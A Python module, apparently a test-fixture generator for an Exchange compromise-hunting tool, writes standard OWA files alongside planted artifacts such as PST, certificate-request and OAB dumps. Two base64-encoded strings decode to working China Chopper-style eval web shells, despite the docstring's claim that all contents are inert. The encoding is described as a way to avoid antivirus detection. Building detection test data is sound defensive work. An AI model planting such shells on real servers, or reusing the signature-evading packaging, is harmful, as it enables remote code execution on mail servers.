"""The file-system part of the collection: standard Exchange web folders and planted artifacts.

Standard files carry the CU18 install time (or the SU time for the SU's versioned folder); planted
files carry their attack time. Contents are written by us: short, plausible, and inert.

The server-side script bodies of the planted shells are kept base64-encoded here and decoded when
the module loads, so neither this source file nor its compiled form carries a web-shell signature
that antivirus (or exhunt's own content rules) would flag in the installed package.
"""

from __future__ import annotations

import base64
import io
import os
import struct
import zipfile
from pathlib import Path

from .model import INSTALL_DATE, INSTALL_REL, Timeline, from_ms, to_ms

OWA_AUTH = f"{INSTALL_REL}/FrontEnd/HttpProxy/owa/auth"
ECP_AUTH = f"{INSTALL_REL}/FrontEnd/HttpProxy/ecp/auth"
ASPNET_CLIENT = "C/inetpub/wwwroot/aspnet_client"

_PAGE = """<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.{cls}" %>
<%@ Import namespace="Microsoft.Exchange.HttpProxy"%>
<!DOCTYPE HTML>
<html>
<head>
<meta http-equiv="X-UA-Compatible" content="IE=10" />
<meta http-equiv="Content-Type" content="text/html; CHARSET=utf-8">
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>{title}</title>
<link rel="shortcut icon" href="<%=InlineImages.GetFavicon()%>" type="image/x-icon">
<link type="text/css" rel="stylesheet" href="<%=ResourcePathBuilder.GetThemeCssPath(\"logon.css\")%>">
</head>
<body class="signInBg" style="background: #f2f2f2">
<div class="mouse">
  <div class="signinTxt"><%={text}%></div>
</div>
</body>
</html>
"""

STANDARD_OWA_AUTH = {
    "logon.aspx": ("Logon", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.LogOn)"),
    "logoff.aspx": ("Logoff", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.LogOff)"),
    "errorFE.aspx": ("ErrorFE", "Outlook", "Microsoft.Exchange.HttpProxy.ErrorFE.ErrorMessage"),
    "ExpiredPassword.aspx": (
        "ExpiredPassword",
        "Outlook",
        "LocalizedStrings.GetHtmlEncoded(Strings.IDs.ChangePassword)",
    ),
    "frowny.aspx": ("Frowny", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.UnexpectedError)"),
    "getidtokens.aspx": ("GetIdTokens", "Outlook", "string.Empty"),
    "OutlookCN.aspx": ("OutlookCN", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.OutlookWebApp)"),
    "RedirSuiteServiceProxy.aspx": ("RedirSuiteServiceProxy", "Outlook", "string.Empty"),
    "signout.aspx": ("Signout", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.LogOff)"),
    "SvmFeedback.aspx": ("SvmFeedback", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.Feedback)"),
    "TimeoutLogout.aspx": ("TimeoutLogout", "Outlook", "LocalizedStrings.GetHtmlEncoded(Strings.IDs.SessionTimedOut)"),
}

_CSS = """/* Outlook on the web sign-in page */
body.signInBg { margin: 0; font-family: "Segoe UI", "Segoe UI Web (West European)", Tahoma, sans-serif; }
.signInImageHeader { width: 100%; height: 60px; }
.mouse { position: absolute; top: 50%; left: 50%; width: 420px; margin-left: -210px; margin-top: -160px; }
.signinTxt { font-size: 29px; color: #333; font-weight: 300; }
.signInInputInput { width: 280px; height: 32px; border: 1px solid #ababab; padding: 0 8px; }
.signInEnter { width: 280px; height: 32px; background-color: #0072c6; color: #fff; cursor: pointer; }
"""
_GIF = bytes.fromhex("47494638396101000100800000ffffff00000021f90401000000002c00000000010001000002024401003b")


def _decoded(b64: str) -> str:
    """A script body stored base64-encoded (see the module docstring)."""
    return base64.b64decode(b64).decode("utf-8")


def _write(root: Path, rel: str, data: bytes | str, mtime_ms: int) -> None:
    p = root / rel
    p.parent.mkdir(parents=True, exist_ok=True)
    p.write_bytes(data.encode("utf-8") if isinstance(data, str) else data)
    os.utime(p, (mtime_ms / 1000, mtime_ms / 1000))


def write_standard(root: Path, host: str, tl: Timeline) -> list[str]:
    """The standard web folders of an Exchange 2016 CU18 server; returns the vendor zip path."""
    t_inst = to_ms(INSTALL_DATE)
    for name, (cls, title, text) in STANDARD_OWA_AUTH.items():
        _write(
            root,
            f"{host}/{OWA_AUTH}/{name}",
            _PAGE.format(cls=cls, title=title, text=text).replace("\n", "\r\n"),
            t_inst,
        )
    builds = [("15.1.2106.2", t_inst)]
    if tl.build_switch is not None:
        builds.append(("15.1.2106.13", tl.build_switch - 14 * 60_000))
    for folder, t in [("Current", t_inst), *builds]:
        res = f"{host}/{OWA_AUTH}/{folder}/themes/resources"
        _write(root, f"{res}/logon.css", _CSS.replace("\n", "\r\n"), t)
        _write(root, f"{res}/owafont.css", "@font-face { font-family: 'wf_segoe-ui_normal'; }\r\n", t)
        _write(root, f"{res}/lgnbotl.gif", _GIF, t)
        _write(root, f"{res}/favicon.ico", b"\x00\x00\x01\x00\x01\x00\x10\x10\x00\x00\x01\x00\x20\x00" + bytes(64), t)
        if folder != "Current":
            _write(
                root,
                f"{host}/{OWA_AUTH}/{folder}/scripts/premium/flogon.js",
                "function setCookie(n,v){document.cookie=n+'='+v+'; path=/';}\r\n",
                t,
            )
    _write(
        root,
        f"{host}/{ECP_AUTH}/TimeoutLogoff.aspx",
        _PAGE.format(cls="TimeoutLogoff", title="Exchange Admin Center", text="string.Empty").replace("\n", "\r\n"),
        t_inst,
    )
    (root / f"{host}/{ASPNET_CLIENT}/system_web/4_0_30319").mkdir(parents=True, exist_ok=True)
    _write(
        root,
        f"{host}/C/inetpub/wwwroot/iisstart.htm",
        "<!DOCTYPE html>\r\n<html><head><title>IIS Windows Server</title></head>"
        '<body><img src="iisstart.png" alt="IIS"></body></html>\r\n',
        t_inst - 86_400_000 * 30,
    )
    vendor = f"{host}/C/ProgramData/VMware/VMware Tools/vss_manifests.zip"
    _write(root, vendor, vendor_zip(t_inst - 86_400_000 * 20), t_inst - 86_400_000 * 20)
    return [vendor]


def _zip(entries: list[tuple[str, bytes]], t: int) -> bytes:
    """A small valid zip with fixed timestamps (so output is byte-for-byte deterministic)."""
    d = from_ms(t)
    stamp = (d.year, d.month, d.day, d.hour, d.minute, d.second // 2 * 2)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in entries:
            info = zipfile.ZipInfo(name, stamp)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            z.writestr(info, data)
    return buf.getvalue()


def vendor_zip(t: int) -> bytes:
    xml = (
        '<?xml version="1.0" encoding="UTF-8"?>\r\n<vssManifest version="1.0">\r\n'
        '  <writer name="Microsoft Exchange Writer" id="76fe1ac4-15f7-4bcd-987e-8e1acb462fb7"/>\r\n'
        '  <writer name="System Writer" id="e8132975-6f93-4464-a53e-1050253ae220"/>\r\n</vssManifest>\r\n'
    )
    return _zip([("backup.xml", xml.encode()), ("writers.txt", b"Microsoft Exchange Writer\r\nSystem Writer\r\n")], t)


# ---- planted artifacts --------------------------------------------------------------------------

# A JScript page-load script that evaluates a request field with the "unsafe" flag (the CVE-2021-27065
# payload shape HelseCERT published), as written into the OAB ExternalUrl.
SCRIPT_SHELL = _decoded(
    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7ZXZhbChSZXF1ZXN0WyJr"
    "bGsxMjM0NTYiXSwidW5zYWZlIik7fTwvc2NyaXB0Pg=="
)


def oab_vdir_dump(host: str, fqdn: str, vdir_guid: str, when: str) -> str:
    """What ResetOABVirtualDirectory writes: the OAB virtual directory settings, script in ExternalUrl."""
    rows = [
        ("PollInterval", "480"),
        ("OfflineAddressBooks", ""),
        ("RequireSSL", "False"),
        ("BasicAuthentication", "False"),
        ("WindowsAuthentication", "True"),
        ("OAuthAuthentication", "True"),
        ("MetabasePath", f"IIS://{fqdn}/W3SVC/1/ROOT/OAB"),
        ("Path", "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\OAB"),
        ("ExtendedProtectionTokenChecking", "None"),
        ("ExtendedProtectionFlags", ""),
        ("ExtendedProtectionSPNList", ""),
        ("AdminDisplayVersion", "Version 15.1 (Build 2106.2)"),
        ("Server", host),
        ("InternalUrl", f"https://{fqdn}/OAB"),
        ("InternalAuthenticationMethods", "WindowsIntegrated"),
        ("ExternalUrl", f"http://f/{SCRIPT_SHELL}"),
        ("ExternalAuthenticationMethods", "WindowsIntegrated"),
        ("AdminDisplayName", ""),
        ("ExchangeVersion", "0.10 (14.0.100.0)"),
        ("Name", "OAB (Default Web Site)"),
        (
            "DistinguishedName",
            f"CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={host},CN=Servers,"
            "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,"
            "CN=Corp,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example",
        ),
        ("Identity", f"{host}\\OAB (Default Web Site)"),
        ("Guid", vdir_guid),
        ("ObjectCategory", "corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"),
        ("ObjectClass", "{top, msExchVirtualDirectory, msExchOABVirtualDirectory}"),
        ("WhenChanged", when),
        ("WhenCreated", "10/14/2020 9:51:27 PM"),
        ("OriginatingServer", "dc01.corp.example"),
        ("IsValid", "True"),
        ("ObjectState", "Unchanged"),
    ]
    width = max(len(k) for k, _ in rows) + 1
    return "\r\n" + "".join(f"{k.ljust(width)}: {v}\r\n" for k, v in rows) + "\r\n"


# A China Chopper style one-line JScript page: evaluates one request item with the "unsafe" flag.
CHOPPER = _decoded("PCVAIFBhZ2UgTGFuZ3VhZ2U9IkpzY3JpcHQiJT48JWV2YWwoUmVxdWVzdC5JdGVtWyJ6azFmaCJdLCJ1bnNhZmUiKTslPg==")
# The opening tag of a server-side script block (C#), followed by CRLF.
_SCRIPT_OPEN = _decoded("PHNjcmlwdCBydW5hdD0ic2VydmVyIj4NCg==")
# A JScript page-load script that only writes "ok": the item body inside the PST-format page.
_PST_SCRIPT = _decoded(
    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7LypleGh1bnQgc3ludGhl"
    "dGljLCBpbmVydCovUmVzcG9uc2UuV3JpdGUoIm9rIik7fTwvc2NyaXB0Pg=="
)
# An empty JScript page-load script: the subject CN of the certificate-request page.
_CERTREQ_SCRIPT = _decoded(
    "PHNjcmlwdCBsYW5ndWFnZT0iSlNjcmlwdCIgcnVuYXQ9InNlcnZlciI+ZnVuY3Rpb24gUGFnZV9Mb2FkKCl7LypleGh1bnQgc3ludGhl"
    "dGljLCBpbmVydCovfTwvc2NyaXB0Pg=="
)


# An in-memory assembly loader's shape (request field, base64, Assembly.Load) behind a branch that never
# runs: the dormant shell, planted and never requested.
LOADER_SHAPE = _decoded(
    "PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPg0KPCUtLSBleGh1bnQgc3ludGhldGljIHRlc3QgYXJ0aWZhY3Q6IHRoZSBzaGFwZSBvZiBh"
    "biBpbi1tZW1vcnkgbG9hZGVyLCBsZWZ0IHVudXNlZC4gSW5lcnQ6IHRoZSBicmFuY2ggbmV2ZXIgcnVucy4gLS0lPg0KPCUgaWYgKGZh"
    "bHNlKSB7IGJ5dGVbXSBjID0gQ29udmVydC5Gcm9tQmFzZTY0U3RyaW5nKFJlcXVlc3QuRm9ybVsicCJdKTsgU3lzdGVtLlJlZmxlY3Rp"
    "b24uQXNzZW1ibHkuTG9hZChjKS5DcmVhdGVJbnN0YW5jZSgiWCIpOyB9ICU+DQo="
)
# A command page's shape (cmd.exe with a form field, output redirected) behind a branch that never runs:
# the shell outside the folders the path rules know, reached by requests.
COMMAND_SHAPE = _decoded(
    "PCVAIFBhZ2UgTGFuZ3VhZ2U9IkMjIiAlPg0KPCUtLSBleGh1bnQgc3ludGhldGljIHRlc3QgYXJ0aWZhY3Q6IHRoZSBzaGFwZSBvZiBh"
    "IGNvbW1hbmQgcGFnZS4gSW5lcnQ6IHRoZSBicmFuY2ggbmV2ZXIgcnVucy4gLS0lPg0KPHNjcmlwdCBydW5hdD0ic2VydmVyIj4NCnZv"
    "aWQgUGFnZV9Mb2FkKG9iamVjdCBzLCBFdmVudEFyZ3MgZSkNCnsNCiAgICBpZiAoZmFsc2UpIHsgdmFyIHAgPSBuZXcgU3lzdGVtLkRp"
    "YWdub3N0aWNzLlByb2Nlc3NTdGFydEluZm8oImNtZC5leGUiLCAiL2MgIiArIFJlcXVlc3QuRm9ybVsiYyJdKTsgcC5SZWRpcmVjdFN0"
    "YW5kYXJkT3V0cHV0ID0gdHJ1ZTsgfQ0KfQ0KPC9zY3JpcHQ+DQo="
)


def inert_aspx(note: str) -> str:
    return (
        '<%@ Page Language="C#" %>\r\n'
        f"<%-- exhunt synthetic test artifact: {note}. Inert: it only echoes a form value. --%>\r\n"
        + _SCRIPT_OPEN
        + "void Page_Load(object sender, EventArgs e)\r\n{\r\n"
        '    string v = Request.Form["z1"];\r\n'
        "    if (!string.IsNullOrEmpty(v)) { Response.Write(Server.HtmlEncode(v)); }\r\n"
        "}\r\n</script>\r\n"
    )


def inert_ashx(cls: str, note: str) -> str:
    return (
        f'<%@ WebHandler Language="C#" Class="{cls}" %>\r\n'
        f"// exhunt synthetic test artifact: {note}. Inert: answers 404.\r\n"
        "using System.Web;\r\n"
        f"public class {cls} : IHttpHandler {{\r\n"
        "    public bool IsReusable { get { return false; } }\r\n"
        "    public void ProcessRequest(HttpContext ctx) { ctx.Response.StatusCode = 404; }\r\n"
        "}\r\n"
    )


def minidump(seed: int, size: int = 6144) -> bytes:
    """A small file with a minidump header (`MDMP`) and filler."""
    head = b"MDMP" + struct.pack("<HHIIIIQ", 0xA793, 0, 3, 32, 0, 0x6040D4A2, 0x61826)
    body = bytes((i * 73 + seed) & 0xFF for i in range(size - len(head)))
    return head + body


def pst_shell() -> bytes:
    """A PST-format file (magic `!BDN`) as left by a mailbox export, with a script in an item body."""
    head = b"!BDN" + struct.pack("<IHHH", 0x5C5A3D0E, 0x4D53, 23, 19) + bytes(500)
    body = _PST_SCRIPT.encode("utf-8")
    return head + bytes(1024) + body + bytes(2048)


def _der(tag: int, content: bytes) -> bytes:
    n = len(content)
    if n < 0x80:
        return bytes([tag, n]) + content
    ln = n.to_bytes((n.bit_length() + 7) // 8, "big")
    return bytes([tag, 0x80 | len(ln)]) + ln + content


def certreq_shell() -> bytes:
    """A DER PKCS#10 certificate request whose subject CN carries a script (ProxyShell variant)."""
    oid_cn = _der(0x06, bytes([0x55, 0x04, 0x03]))
    cn = _CERTREQ_SCRIPT
    name = _der(0x30, _der(0x31, _der(0x30, oid_cn + _der(0x0C, cn.encode()))))
    rsa = _der(0x30, _der(0x06, bytes.fromhex("2a864886f70d010101")) + _der(0x05, b""))
    key = _der(0x03, b"\x00" + _der(0x30, _der(0x02, b"\x00" + bytes(range(1, 129))) + _der(0x02, b"\x01\x00\x01")))
    info = _der(0x30, _der(0x02, b"\x00") + name + _der(0x30, rsa + key) + _der(0xA0, b""))
    alg = _der(0x30, _der(0x06, bytes.fromhex("2a864886f70d01010b")) + _der(0x05, b""))
    return _der(0x30, info + alg + _der(0x03, b"\x00" + bytes(range(128, 256))))


def staging_zip(t: int) -> bytes:
    pst = b"!BDN" + bytes(252)
    return _zip([("pst/user-mailbox-01.pst", pst), ("pst/user-mailbox-02.pst", pst)], t)


def write_planted(root: Path, rel: str, data: bytes | str, t: int) -> str:
    _write(root, rel, data, t)
    return rel


def settle_dir_mtimes(top: Path, default_ms: int) -> None:
    """Give every folder the newest mtime of its contents (empty folders: `default_ms`)."""
    for dirpath, dirnames, filenames in os.walk(top, topdown=False):
        newest = 0.0
        for name in (*dirnames, *filenames):
            newest = max(newest, os.stat(os.path.join(dirpath, name)).st_mtime)
        t = newest or default_ms / 1000
        os.utime(dirpath, (t, t))
